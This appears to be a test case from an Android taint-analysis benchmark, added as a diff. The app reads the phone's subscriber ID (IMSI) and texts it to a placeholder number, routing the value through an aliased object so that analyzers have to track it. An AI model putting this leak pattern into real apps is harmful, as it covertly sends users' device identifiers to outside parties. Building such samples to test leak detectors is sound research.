@@ -1,0 +1,31 @@
+// about       An envelope gets the note before the note is filled; it is the same note.
+// leak        DEV_IMSI sms
+package cn.example.flow;
+
+import android.app.Activity;
+import android.content.Context;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+
+public class MainActivity extends Activity {
+  static class Note {
+    String text = "empty";
+  }
+
+  static class Envelope {
+    Note note;
+  }
+
+  @Override
+  protected void onCreate(Bundle state) {
+    super.onCreate(state);
+    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
+    Note note = new Note();
+    Envelope envelope = new Envelope();
+    envelope.note = note;
+    // The write below reaches the envelope's note as well.
+    note.text = phone.getSubscriberId();
+    SmsManager.getDefault().sendTextMessage("+15550100", null, envelope.note.text, null, null);
+  }
+}
